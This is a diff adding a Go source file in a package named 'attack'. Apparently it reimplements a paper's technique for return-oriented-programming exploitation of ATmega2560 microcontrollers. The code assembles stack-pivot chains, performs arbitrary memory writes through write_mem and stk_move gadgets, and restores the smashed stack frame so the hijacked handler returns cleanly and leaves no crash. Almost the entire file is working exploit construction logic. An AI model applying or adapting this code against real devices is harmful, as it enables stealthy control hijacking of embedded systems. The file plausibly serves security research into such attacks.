@@ -1,0 +1,138 @@
+package attack
+
+import "fmt"
+
+// Write is one 3-byte arbitrary memory write performed via the
+// write_mem_gadget (std Y+1..Y+3 of the three stored registers).
+type Write struct {
+	// Addr is the data-space address of the first written byte
+	// (the gadget's Y is set to Addr-1).
+	Addr uint16
+	// Vals are the bytes stored to Addr, Addr+1, Addr+2.
+	Vals [3]byte
+}
+
+// chain assembles the byte stream a pivoted stack pointer consumes:
+// pop data and big-endian 3-byte return addresses ([ext, hi, lo] in
+// ascending memory, the ATmega2560 convention visible in Fig. 6).
+type chain struct {
+	buf []byte
+}
+
+// ret appends a 3-byte return address for word address target.
+func (c *chain) ret(target uint32) {
+	c.buf = append(c.buf, byte(target>>16), byte(target>>8), byte(target))
+}
+
+// popFrame appends one byte per popped register, in pop order, taking
+// values from vals (junk 0x61 otherwise).
+func (c *chain) popFrame(popRegs []int, vals map[int]byte) {
+	for _, r := range popRegs {
+		if v, ok := vals[r]; ok {
+			c.buf = append(c.buf, v)
+		} else {
+			c.buf = append(c.buf, 0x61)
+		}
+	}
+}
+
+// writeVals maps a Write onto the write_mem gadget's popped registers:
+// Y (r28/r29) aims at Addr-1 and the three store-source registers carry
+// the values.
+func writeVals(a *Analysis, w Write) map[int]byte {
+	y := w.Addr - 1
+	return map[int]byte{
+		28:                      byte(y),
+		29:                      byte(y >> 8),
+		a.WriteMem.StoreRegs[0]: w.Vals[0],
+		a.WriteMem.StoreRegs[1]: w.Vals[1],
+		a.WriteMem.StoreRegs[2]: w.Vals[2],
+	}
+}
+
+// buildChain produces the byte stream executed after an SP pivot lands
+// at (chainAddr-1): the incoming stk_move tail pops junk, then each
+// Write is performed by alternating the write_mem gadget's pop half and
+// store half, and the final store's pop frame loads r28/r29 with
+// finalSP so a terminating stk_move pivots there.
+//
+// With finalSP = S0-6 and the last two writes repairing the original
+// return address and saved frame pointer, the terminating stk_move's
+// own pops and ret consume repaired stack bytes — the paper's "clean
+// return".
+func buildChain(a *Analysis, writes []Write, finalSP uint16) ([]byte, error) {
+	if len(writes) == 0 {
+		return nil, fmt.Errorf("attack: chain needs at least one write")
+	}
+	var c chain
+	// Consumed by the tail pops of the stk_move gadget that pivoted here.
+	c.popFrame(a.StkMove.PopRegs, nil)
+	// Enter the write_mem gadget at its pop half to load the first
+	// write's registers.
+	c.ret(a.WriteMem.PopsAddr)
+	c.popFrame(a.WriteMem.PopRegs, writeVals(a, writes[0]))
+	for _, w := range writes[1:] {
+		// Each store half performs the pending write, then its pop tail
+		// loads the next one.
+		c.ret(a.WriteMem.StoreAddr)
+		c.popFrame(a.WriteMem.PopRegs, writeVals(a, w))
+	}
+	// Final store performs the last write; its pop tail aims the
+	// terminating stk_move at finalSP.
+	c.ret(a.WriteMem.StoreAddr)
+	c.popFrame(a.WriteMem.PopRegs, map[int]byte{
+		28: byte(finalSP),
+		29: byte(finalSP >> 8),
+	})
+	c.ret(a.StkMove.Addr)
+	return c.buf, nil
+}
+
+// repairWrites are the write_mem invocations that restore the smashed
+// frame (§IV-D). The region [cleanReturnSP+1 .. S0+3] must afterwards
+// hold: one byte per register the terminating stk_move pops (restoring
+// the caller's saved r28/r29) followed by the handler's original 3-byte
+// return address, so that the final pivot + pops + ret reproduce a
+// normal handler return (SP == S0+3, PC == OrigRet, Y == caller's Y).
+func repairWrites(a *Analysis) []Write {
+	popLen := len(a.StkMove.PopRegs)
+	start := a.cleanReturnSP() + 1
+	desired := make([]byte, popLen+3)
+	for i, r := range a.StkMove.PopRegs {
+		switch {
+		case r == 28:
+			desired[i] = a.OrigR28
+		case r == 29:
+			desired[i] = a.OrigR29
+		default:
+			if v, ok := a.OrigRegs[r]; ok {
+				desired[i] = v // full context restoration
+			} else {
+				desired[i] = 0x61
+			}
+		}
+	}
+	desired[popLen] = byte(a.OrigRet >> 16)
+	desired[popLen+1] = byte(a.OrigRet >> 8)
+	desired[popLen+2] = byte(a.OrigRet)
+
+	var out []Write
+	for off := 0; off < len(desired); off += 3 {
+		if off+3 > len(desired) {
+			off = len(desired) - 3 // final chunk re-covers overlap
+		}
+		out = append(out, Write{
+			Addr: start + uint16(off),
+			Vals: [3]byte{desired[off], desired[off+1], desired[off+2]},
+		})
+	}
+	return out
+}
+
+// cleanReturnSP is where the terminating stk_move must point so its
+// pops consume the repaired saved registers and its ret consumes the
+// repaired return address, leaving SP exactly where a normal handler
+// return would (S0+3).
+func (a *Analysis) cleanReturnSP() uint16 {
+	return a.S0 - uint16(len(a.StkMove.PopRegs))
+}
